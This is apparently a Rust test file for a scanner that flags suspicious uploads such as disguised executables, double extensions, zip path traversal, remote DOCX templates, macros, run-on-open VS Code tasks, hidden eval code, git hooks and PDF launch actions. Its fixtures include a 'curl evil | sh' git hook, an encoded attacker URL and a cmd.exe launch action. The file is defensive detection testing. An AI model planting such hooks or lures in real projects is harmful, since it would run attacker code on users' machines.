use super::*;
use crate::InProcess;
use std::io::Write as _;

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in members {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn traits(name: &str, bytes: &[u8]) -> Vec<FileTrait> {
    let (reports, _) = look_into(name, bytes, ArtifactId(0), &InProcess);
    let mut all: Vec<FileTrait> = reports.iter().flat_map(|r| r.traits.iter().map(|t| t.value)).collect();
    all.sort_unstable();
    all.dedup();
    all
}

#[test]
fn names_against_bytes() {
    let mut program = b"MZ".to_vec();
    program.resize(200, 0);
    assert_eq!(traits("이력서.hwp", &program), [FileTrait::Executable, FileTrait::ContentMismatch]);
    assert_eq!(traits("cv.hwp.scr", &program), [FileTrait::Executable, FileTrait::DoubleExtension]);
    assert!(traits("offer\u{202e}fdp.exe", &program).contains(&FileTrait::DisguisedName));
    assert_eq!(traits("job offer.pdf.zip", &zip(&[("a.txt", b"x")])), [FileTrait::DoubleExtension]);
    assert!(traits("JD.pdf", b"%PDF-1.7\n1 0 obj\n<<>>").is_empty());
    assert!(traits("archive.tar.gz", b"").is_empty());
}

#[test]
fn inside_archives_and_documents() {
    let mut program = b"MZ".to_vec();
    program.resize(200, 0);
    let inner = zip(&[("Job Description.exe", &program)]);
    assert!(traits("offer.zip", &zip(&[("more.zip", &inner)])).contains(&FileTrait::Executable));
    assert!(traits("x.zip", &zip(&[("../../evil.txt", b"x")])).contains(&FileTrait::PathTraversal));
    let rels = br#"<Relationships><Relationship Type="http://schemas/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let docx = zip(&[("[Content_Types].xml", b"<Types/>"), ("word/_rels/settings.xml.rels", rels)]);
    assert_eq!(traits("JD.docx", &docx), [FileTrait::RemoteTemplate]);
    assert_eq!(
        traits("JD.docm", &zip(&[("[Content_Types].xml", b""), ("word/vbaProject.bin", b"x")])),
        [FileTrait::Macro]
    );
}

#[test]
fn source_trees() {
    let tasks = br#"{"tasks":[{"command":"node ./x.js","runOptions":{"runOn": "folderOpen"}}]}"#;
    let hidden = format!("const a = 1;{}eval(atob('x'));\n", " ".repeat(300));
    let encoded = br#"const u = "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcA==";"#;
    let package = br#"{"scripts":{"postinstall":"node scripts/setup.js"}}"#;
    let tree = zip(&[
        ("task/.vscode/tasks.json", tasks),
        ("task/src/app.js", hidden.as_bytes()),
        ("task/src/config.js", encoded),
        ("task/package.json", package),
        ("task/.npmrc", b"registry=https://npm.evil.example/"),
        ("task/.git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n"),
    ]);
    let found = traits("task.zip", &tree);
    for wanted in [
        FileTrait::RunOnOpen,
        FileTrait::HiddenCode,
        FileTrait::EncodedUrl,
        FileTrait::InstallScript,
        FileTrait::CustomRegistry,
        FileTrait::GitHook,
    ] {
        assert!(found.contains(&wanted), "{wanted:?}");
    }
    let honest = zip(&[
        ("t/package.json", br#"{"scripts":{"test":"jest","prepare":"husky"}}"#),
        ("t/src/a.js", b"export const add = (a, b) => a + b;\n"),
        ("t/README.md", b"Read https://example.com"),
    ]);
    assert!(traits("task.zip", &honest).is_empty());
}

#[test]
fn bombs_are_bounded_and_reported() {
    let zeros = vec![0u8; 30 * 1024 * 1024];
    let bomb = zip(&[("a.bin", &zeros), ("b.bin", &zeros)]);
    let (reports, gaps) = look_into("bomb.zip", &bomb, ArtifactId(0), &InProcess);
    assert!(reports[0].has(FileTrait::LimitReached));
    assert!(!gaps.is_empty());
    let mut nested = zip(&[("x.txt", b"x")]);
    for _ in 0..8 {
        nested = zip(&[("in.zip", &nested)]);
    }
    assert!(traits("deep.zip", &nested).contains(&FileTrait::LimitReached));
}

#[test]
fn pdf_actions_and_links() {
    let pdf = b"%PDF-1.7\n1 0 obj <</OpenAction <</S /Launch /F (cmd.exe)>>>> <</URI (https://evil.example/a)>>";
    let (reports, _) = look_into("a.pdf", pdf, ArtifactId(0), &InProcess);
    assert!(reports[0].has(FileTrait::PdfLaunch));
    assert_eq!(reports[0].urls[0].value, "https://evil.example/a");
    let locked = b"%PDF-1.7\ntrailer <</Encrypt 5 0 R>>";
    assert_eq!(traits("a.pdf", locked), [FileTrait::Encrypted]);
}
